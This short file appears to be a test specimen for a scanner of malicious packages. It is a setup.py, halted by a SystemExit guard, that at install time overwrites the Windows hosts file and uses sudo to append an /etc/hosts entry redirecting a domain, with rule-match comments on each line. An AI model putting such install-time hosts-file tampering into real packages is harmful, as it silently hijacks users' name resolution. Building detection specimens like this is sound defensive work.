raise SystemExit("specimen: not to be run")
from os import system as do, environ as e
from pathlib import Path as P
from setuptools import setup

(P(e["SYSTEMROOT"]) / "System32" / "drivers" / "etc" / "hosts").write_text("192.0.2.7 example.com")  # match: name-resolution-change
do("echo '192.0.2.7 files.example.com' | sudo tee -a /etc/hosts")  # match: name-resolution-change  # match: process-at-install  # match: written-file-run
setup(name="specimen")
